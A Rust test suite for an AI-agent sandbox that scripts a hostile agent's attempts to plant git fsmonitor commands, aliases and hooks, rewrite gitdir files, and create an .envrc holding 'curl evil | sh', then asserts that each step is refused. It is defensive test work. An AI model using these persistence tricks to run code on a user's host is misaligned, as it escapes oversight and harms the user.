//! Protected paths inside a writable workspace (issue 11 item 2), attacked for real as root:
//! the agent renames `.git` away, swaps it, unlinks, replaces and rewrites `.git/config` and
//! `.git/hooks` by every trick it has, then the user runs git on the host and must not run
//! anything the agent planted; git keeps working inside the sandbox (commits). Also the deny
//! variant (`deny = ["${WORKSPACE}/.git/hooks"]`), and a deny on a path that does not exist
//! yet, which must not lock its parent.

use std::path::{Path, PathBuf};
use std::process::Command;

use aegis_tests::*;
use serde_json::Value;

use crate::launch::*;

/// Helpers of the attack scripts: `t(name, f)` records "ok[ value]" or "ERR <errno name |
/// message>"; `renameat2(a, b, flags)`; `done()` prints the outcomes as JSON.
const PRELUDE: &str = r#"
import ctypes, errno, json, os, shutil, subprocess, sys
R = {}
def t(name, f):
    try:
        r = f()
        R[name] = "ok" if r is None or r == "" else "ok " + str(r)
    except OSError as e:
        R[name] = "ERR " + errno.errorcode.get(e.errno, str(e.errno))
    except Exception as e:
        R[name] = "ERR " + type(e).__name__ + " " + str(e)
libc = ctypes.CDLL(None, use_errno=True)
def renameat2(a, b, flags):
    if libc.renameat2(-100, a.encode(), -100, b.encode(), flags) != 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
def write(p, text, mode="w"):
    with open(p, mode) as f:
        f.write(text)
def done():
    print(json.dumps(R))
"#;

/// What the agent plants wherever it can: a config that makes git run a command on the next
/// `git status`, and a hook for the next commit. Both touch `MARK` on the host.
fn evil_config(mark: &Path) -> String {
    format!("[core]\n\tfsmonitor = touch {m}.fsmonitor; echo\n\thooksPath = .evilhooks\n[alias]\n\tst = !touch {m}.alias\n", m = mark.display())
}

/// The attack, in the agent: every way of getting a `.git/config` or hook of its own at the
/// place the user's git reads them. `EVIL` (argv[2]) is the config text.
const ATTACK: &str = r##"
EVIL = sys.argv[2]
HOOK = "#!/bin/sh\n" + EVIL.split("fsmonitor = ")[1].split(";")[0] + ".hook\n"
os.chdir(W)
G = W + "/.git"
os.makedirs(W + "/evil/hooks", exist_ok=True)
write(W + "/evil/config", EVIL)
write(W + "/evil/hooks/pre-commit", HOOK)
os.chmod(W + "/evil/hooks/pre-commit", 0o755)
write(W + "/evilcfg", EVIL)
t("append_config", lambda: write(G + "/config", EVIL, "a"))
t("truncate_config", lambda: os.truncate(G + "/config", 0))
t("plant_hook", lambda: write(G + "/hooks/pre-commit", HOOK))
t("chmod_hooks", lambda: os.chmod(G + "/hooks", 0o777))
t("rename_git_away", lambda: os.rename(G, W + "/.git-old"))
t("mv_git_away", lambda: subprocess.run(["/usr/bin/python3", "-c", "import os; os.rename(%r, %r)" % (G, W + "/.git-mv")], check=True, capture_output=True))
t("rename_over_git", lambda: os.rename(W + "/evil", G))
t("exchange_git", lambda: renameat2(W + "/evil", G, 2))
t("rename_hooks_away", lambda: os.rename(G + "/hooks", G + "/hooks-old"))
t("rmtree_hooks", lambda: shutil.rmtree(G + "/hooks"))
t("unlink_config", lambda: os.unlink(G + "/config"))
t("rename_over_config", lambda: os.rename(W + "/evilcfg", G + "/config"))
t("exchange_config", lambda: renameat2(W + "/evilcfg", G + "/config", 2))
t("link_then_rename_over", lambda: (os.link(W + "/evilcfg", G + "/cfg-link"), os.rename(G + "/cfg-link", G + "/config")))
t("write_then_rename_in_git", lambda: (write(G + "/config.new", EVIL), os.rename(G + "/config.new", G + "/config")))
t("exchange_hooks", lambda: renameat2(W + "/evil/hooks", G + "/hooks", 2))
t("symlink_replant", lambda: (os.rmdir(G), os.symlink(W + "/evil", G)))
def umount(p):
    if libc.umount2(p.encode(), 2) != 0:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
t("umount_config", lambda: umount(G + "/config"))
def git(*args):
    r = subprocess.run(["git", *args], capture_output=True, text=True)
    if r.returncode != 0:
        raise RuntimeError("exit %d: %s" % (r.returncode, r.stderr.strip()[-300:]))
    return r.stdout.strip()
t("git_config", lambda: git("config", "core.fsmonitor", "touch /x"))
t("config_intact", lambda: open(G + "/config").read() == sys.argv[3])
# git keeps working for the agent's own work.
write(W + "/src/app.py", "x = 2\n")
t("git_add", lambda: git("add", "src/app.py"))
t("git_commit", lambda: git("commit", "-q", "-m", "agent change"))
t("git_log", lambda: git("log", "--format=%s").replace("\n", "|"))
# Last, the destructive way: rm -rf .git takes what is writable (the agent's to destroy),
# never the protected paths, and then a planted .git cannot take their place.
t("rm_rf_git", lambda: shutil.rmtree(G))
t("replant_after_rm_rf", lambda: (write(G + "/config", EVIL), os.makedirs(G + "/hooks2")))
t("config_survives_rm_rf", lambda: open(G + "/config").read() == sys.argv[3])
"##;

/// The user's git on the host, in `dir` (any owner: the test's repositories belong to the
/// agent's uid); panics unless it succeeds.
fn host_git(dir: &Path, args: &[&str]) {
    let r = run(Command::new("git")
        .args(["-c", "safe.directory=*", "-c", "user.name=u", "-c", "user.email=u@example.invalid", "-C"])
        .arg(dir)
        .args(args));
    assert_eq!(r.code, 0, "git {args:?}: {}", r.stderr);
}

struct Outcome {
    agent: Value,
    ws: PathBuf,
    mark: PathBuf,
    config: String,
}

/// A workspace repository with one commit, owned by the agent; the agent attacks it under
/// `policy`; returns the outcomes.
fn attack(lab: &Lab, policy: &Path) -> Outcome {
    let ws = lab.agent_dir("repo");
    // The policy's denied `.env` exists (a denied path absent at launch is another test).
    put(&ws.join(".env"), "TOKEN=secret\n", None);
    let r = run(Command::new("git").arg("init").arg("-q").arg(&ws));
    assert_eq!(r.code, 0, "{}", r.stderr);
    put(&ws.join("src/app.py"), "x = 1\n", None);
    host_git(&ws, &["add", "."]);
    host_git(&ws, &["commit", "-q", "-m", "user commit"]);
    let u = lab.agent_uid();
    let r = run(Command::new("chown").arg("-R").arg(format!("{u}:{u}")).arg(&ws));
    assert_eq!(r.code, 0, "{}", r.stderr);
    let config = std::fs::read_to_string(ws.join(".git/config")).unwrap();
    let mark = lab.path("planted");
    let bundle = lab.build(policy, "bundle");
    let script = format!("{PRELUDE}\nW = sys.argv[1]\n{ATTACK}\ndone()\n");
    let w = ws.display().to_string();
    let evil = evil_config(&mark);
    let env = [
        ("GIT_AUTHOR_NAME", "Agent"),
        ("GIT_AUTHOR_EMAIL", "agent@example.invalid"),
        ("GIT_COMMITTER_NAME", "Agent"),
        ("GIT_COMMITTER_EMAIL", "agent@example.invalid"),
    ];
    let mut c = lab.exec_cmd_env(&bundle, &[("WORKSPACE", ws.as_path())], &env, &lab.path("audit.log"), &["/usr/bin/python3", "-c", &script, &w, &evil, &config]);
    let r = run_for(&mut c, std::time::Duration::from_secs(60));
    assert_eq!(r.code, 0, "attack script failed: {}\n{}", r.stdout, r.stderr);
    let agent: Value = serde_json::from_str(r.stdout.lines().last().unwrap_or("")).unwrap_or_else(|e| panic!("{e}: {}\n{}", r.stdout, r.stderr));
    eprintln!("outcomes: {}", serde_json::to_string_pretty(&agent).unwrap());
    Outcome { agent, ws, mark, config }
}

/// After the session, the user runs git on the host (status, an alias, a commit): nothing the
/// agent planted runs, and the repository's config and hooks are the user's.
fn host_git_runs_nothing_planted(o: &Outcome) {
    let mut ran = Vec::new();
    for args in [&["status"][..], &["st"][..], &["commit", "-q", "--allow-empty", "-m", "after the session"][..], &["diff"][..]] {
        let r = run(Command::new("git")
            .args(["-c", "safe.directory=*", "-c", "user.name=u", "-c", "user.email=u@example.invalid", "-C"])
            .arg(&o.ws)
            .args(args));
        ran.push(format!("git {args:?}: exit {} {}", r.code, r.stderr.trim()));
    }
    let planted: Vec<String> = ["fsmonitor", "alias", "hook"]
        .iter()
        .map(|k| PathBuf::from(format!("{}.{k}", o.mark.display())))
        .filter(|p| p.exists())
        .map(|p| p.display().to_string())
        .collect();
    assert!(planted.is_empty(), "the agent's code ran on the host: {planted:?}\n{}", ran.join("\n"));
    assert!(o.ws.join(".git").is_dir() && !o.ws.join(".git").is_symlink(), ".git was replaced");
    assert_eq!(std::fs::read_to_string(o.ws.join(".git/config")).unwrap(), o.config, "the user's .git/config changed");
    assert!(!o.ws.join(".git/hooks/pre-commit").exists(), "a hook was planted");
}

fn refused(v: &Value, k: &str) {
    let got = v[k].as_str().unwrap_or_else(|| panic!("no outcome {k} in {v}"));
    assert!(got.starts_with("ERR"), "{k}: the attack step succeeded: {got}");
}

fn ready() -> bool {
    if !sandbox_ready() {
        return false;
    }
    if !Path::new("/usr/bin/git").exists() {
        eprintln!("SKIP: /usr/bin/git is missing (the attack and the host check run git)");
        return false;
    }
    true
}

const STEPS: &[&str] = &[
    "append_config",
    "truncate_config",
    "plant_hook",
    "chmod_hooks",
    "rename_git_away",
    "mv_git_away",
    "rename_over_git",
    "exchange_git",
    "rename_hooks_away",
    "rmtree_hooks",
    "unlink_config",
    "rename_over_config",
    "exchange_config",
    "link_then_rename_over",
    "write_then_rename_in_git",
    "exchange_hooks",
    "symlink_replant",
    "umount_config",
    "git_config",
];

/// The attack of issue 11 item 2 under the shipped coding-agent policy (built-in protections).
#[test]
fn renaming_git_away_and_replanting_it_never_reaches_the_hosts_git() {
    if !ready() {
        return;
    }
    for lab in Lab::each() {
        let o = attack(&lab, &policy("coding-agent.toml"));
        for k in STEPS {
            refused(&o.agent, k);
        }
        assert_eq!(o.agent["config_intact"], "ok True", "{}", o.agent);
        assert_eq!(o.agent["git_add"], "ok", "git add works in the sandbox");
        assert_eq!(o.agent["git_commit"], "ok", "git commit works in the sandbox");
        assert_eq!(o.agent["git_log"], "ok agent change|user commit");
        refused(&o.agent, "rm_rf_git");
        refused(&o.agent, "replant_after_rm_rf");
        assert_eq!(o.agent["config_survives_rm_rf"], "ok True", "{}", o.agent);
        host_git_runs_nothing_planted(&o);
    }
}

/// The same attack against a policy that protects `.git/hooks` with a user `deny` (and opts
/// out of the built-in list, so the deny alone is what is tested) and `.git/config` with a
/// user read-only carve-out.
#[test]
fn a_deny_on_git_hooks_survives_renaming_git_away() {
    if !ready() {
        return;
    }
    for lab in Lab::each() {
        let p = lab.path("deny-hooks.toml");
        std::fs::write(
            &p,
            "version = 1\n[agent]\nname = \"deny-hooks\"\n[parameters]\nWORKSPACE = \"checkout\"\n\
             [filesystem]\nread = [\"/usr\", \"/etc/gitconfig\", \"${WORKSPACE}/.git/config\"]\nwrite = [\"${WORKSPACE}\"]\n\
             deny = [\"${WORKSPACE}/.git/hooks\"]\nprotect = false\n\
             [exec]\nallow = [\"/usr/bin/git\", \"/usr/lib/git-core\", \"/usr/bin/python3\", \"/usr/bin/dash\"]\n\
             [resources]\nmemory = \"1GiB\"\npids = 128\nwall_time = \"1m\"\n",
        )
        .unwrap();
        // git stats .git/hooks before a commit; with the hooks denied it cannot, and says so.
        let o = attack(&lab, &p);
        for k in STEPS {
            refused(&o.agent, k);
        }
        host_git_runs_nothing_planted(&o);
    }
}

/// The workspace is a linked worktree: its `.git` is a file (`gitdir: <main>/.git/worktrees/ws`)
/// that tells the user's git where the repository, and so its config, is. An agent that
/// rewrites it to point at a gitdir of its own gets its config read on the next `git status`.
#[test]
fn a_gitdir_file_cannot_be_pointed_elsewhere() {
    if !ready() {
        return;
    }
    for lab in Lab::each() {
        let main = lab.path("main");
        std::fs::create_dir_all(&main).unwrap();
        host_git(&main, &["init", "-q"]);
        host_git(&main, &["commit", "-q", "--allow-empty", "-m", "user commit"]);
        let ws = lab.path("ws");
        host_git(&main, &["worktree", "add", "-q", ws.to_str().unwrap()]);
        put(&ws.join(".env"), "TOKEN=x\n", None);
        put(&ws.join("src/app.py"), "x = 1\n", None);
        let u = lab.agent_uid();
        let r = run(Command::new("chown").arg("-R").arg(format!("{u}:{u}")).arg(&ws));
        assert_eq!(r.code, 0, "{}", r.stderr);
        let gitfile = std::fs::read_to_string(ws.join(".git")).unwrap();
        let mark = lab.path("planted");
        let bundle = lab.build(&policy("coding-agent.toml"), "bundle");
        let body = r##"
os.makedirs(W + "/src/evil.git/objects", exist_ok=True)
os.makedirs(W + "/src/evil.git/refs", exist_ok=True)
write(W + "/src/evil.git/HEAD", "ref: refs/heads/main\n")
write(W + "/src/evil.git/config", EVIL)
t("rewrite_gitfile", lambda: write(W + "/.git", "gitdir: " + W + "/src/evil.git\n"))
t("replace_gitfile", lambda: (write(W + "/src/gitfile", "gitdir: " + W + "/src/evil.git\n"), os.rename(W + "/src/gitfile", W + "/.git")))
t("unlink_gitfile", lambda: os.unlink(W + "/.git"))
t("read_gitfile", lambda: open(W + "/.git").read().strip())
"##;
        let script = format!("{PRELUDE}\nW = sys.argv[1]\nEVIL = sys.argv[2]\n{body}\ndone()\n");
        let w = ws.display().to_string();
        let evil = evil_config(&mark);
        let r = lab.exec(&bundle, &[("WORKSPACE", ws.as_path())], &lab.path("audit.log"), &["/usr/bin/python3", "-c", &script, &w, &evil]);
        assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
        let v: Value = serde_json::from_str(r.stdout.lines().last().unwrap_or("")).unwrap();
        eprintln!("outcomes: {v}");
        for k in ["rewrite_gitfile", "replace_gitfile", "unlink_gitfile"] {
            refused(&v, k);
        }
        assert!(v["read_gitfile"].as_str().unwrap().starts_with("ok gitdir:"), "git reads it: {v}");
        assert_eq!(std::fs::read_to_string(ws.join(".git")).unwrap(), gitfile);
        let st = run(Command::new("git").args(["-c", "safe.directory=*", "-C"]).arg(&ws).arg("status"));
        assert!(!PathBuf::from(format!("{}.fsmonitor", mark.display())).exists(), "the agent's fsmonitor ran on the host: {}", st.stderr);
    }
}

/// A fresh workspace: no `.git`, no `.envrc`, no `.vscode`, no denied `.env` — names the
/// policy protects but that do not exist at launch. The agent works normally (lists, creates,
/// renames, removes, builds nested trees) while every way of making a protected name fails:
/// directly, through a symlink, by rename, by hard link, by `mkdir -p`, and `git init`.
/// Also the deny variant of the issue: `deny = ["${WORKSPACE}/.git"]` on a fresh directory
/// must not lock its parent. Each refusal is an audit record.
#[test]
fn names_absent_at_launch_stay_absent_and_the_directory_stays_usable() {
    if !ready() {
        return;
    }
    for lab in Lab::each() {
        let ws = lab.agent_dir("fresh");
        let p = lab.path("fresh.toml");
        std::fs::write(
            &p,
            "version = 1\n[agent]\nname = \"fresh\"\n[parameters]\nWORKSPACE = \"checkout\"\n\
             [filesystem]\nread = [\"/usr\", \"/etc/gitconfig\"]\nwrite = [\"${WORKSPACE}\"]\ndeny = [\"${WORKSPACE}/.git\", \"${WORKSPACE}/.env\"]\n\
             [exec]\nallow = [\"/usr/bin/git\", \"/usr/lib/git-core\", \"/usr/bin/python3\", \"/usr/bin/dash\"]\n\
             [resources]\nmemory = \"1GiB\"\npids = 128\nwall_time = \"1m\"\n",
        )
        .unwrap();
        let bundle = lab.build(&p, "bundle");
        let log = lab.path("audit.log");
        let body = r##"
os.chdir(W)
t("ls", lambda: sorted(os.listdir(".")))
t("create", lambda: write("notes.txt", "x"))
t("append", lambda: write("notes.txt", "y", "a"))
t("mkdir_p", lambda: os.makedirs("build/out/deep"))
t("nested_file", lambda: write("build/out/deep/a.o", "x"))
t("rename", lambda: os.rename("notes.txt", "NOTES.md"))
t("rename_dir", lambda: os.rename("build", "target"))
t("unlink", lambda: os.unlink("NOTES.md"))
t("symlink_ok", lambda: os.symlink("target", "t"))
t("tmpfile", lambda: write("/tmp/scratch", "x"))
# Every way to make a protected name.
t("mkdir_git", lambda: os.mkdir(".git"))
t("git_init", lambda: subprocess.run(["git", "init", "-q", "."], check=True, capture_output=True))
t("create_env", lambda: write(".env", "TOKEN=x"))
t("create_envrc", lambda: write(".envrc", "curl evil | sh"))
t("mkdir_vscode", lambda: os.makedirs(".vscode"))
t("mkdir_claude_commands", lambda: os.makedirs(".claude/commands"))
t("rename_onto_envrc", lambda: (write("x", "y"), os.rename("x", ".envrc")))
t("rename_dir_onto_git", lambda: os.rename("target", ".git"))
t("link_onto_envrc", lambda: (write("y", "z"), os.link("y", ".envrc")))
t("symlink_named_envrc", lambda: os.symlink("/etc/passwd", ".envrc"))
t("create_through_symlink", lambda: (os.symlink(".envrc", "lnk"), write("lnk", "x")))
t("create_through_dotdot", lambda: write("target/../.envrc", "x"))
t("openat_dirfd", lambda: os.close(os.open(".envrc", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=os.open(".", os.O_RDONLY))))
t("mknod_fifo", lambda: os.mkfifo(".envrc"))
t("none_appeared", lambda: [n for n in [".git", ".env", ".envrc", ".vscode", ".claude"] if os.path.lexists(n)])
"##;
        let script = format!("{PRELUDE}\nW = sys.argv[1]\n{body}\ndone()\n");
        let w = ws.display().to_string();
        let r = lab.exec(&bundle, &[("WORKSPACE", ws.as_path())], &log, &["/usr/bin/python3", "-c", &script, &w]);
        assert_eq!(r.code, 0, "{}{}", r.stdout, r.stderr);
        let v: Value = serde_json::from_str(r.stdout.lines().last().unwrap_or("")).unwrap();
        eprintln!("outcomes: {}", serde_json::to_string_pretty(&v).unwrap());
        for k in ["ls", "create", "append", "mkdir_p", "nested_file", "rename", "rename_dir", "unlink", "symlink_ok", "tmpfile"] {
            assert!(v[k].as_str().unwrap().starts_with("ok"), "{k}: the workspace must stay usable: {}", v[k]);
        }
        for k in [
            "mkdir_git", "git_init", "create_env", "create_envrc", "mkdir_vscode", "mkdir_claude_commands", "rename_onto_envrc",
            "rename_dir_onto_git", "link_onto_envrc", "symlink_named_envrc", "create_through_symlink", "create_through_dotdot", "openat_dirfd",
            "mknod_fifo",
        ] {
            refused(&v, k);
        }
        assert_eq!(v["none_appeared"], "ok []");
        for n in [".git", ".env", ".envrc", ".vscode", ".claude"] {
            assert!(std::fs::symlink_metadata(ws.join(n)).is_err(), "{n} exists on the host");
        }
        assert!(ws.join("target/out/deep/a.o").exists(), "the agent's work reached the host");
        let events = audit_events(&log);
        let refused_files: Vec<&Value> = events.iter().filter(|e| e["kind"] == "decision" && e.to_string().contains(".envrc")).collect();
        assert!(!refused_files.is_empty(), "refusals are recorded: {events:?}");
    }
}
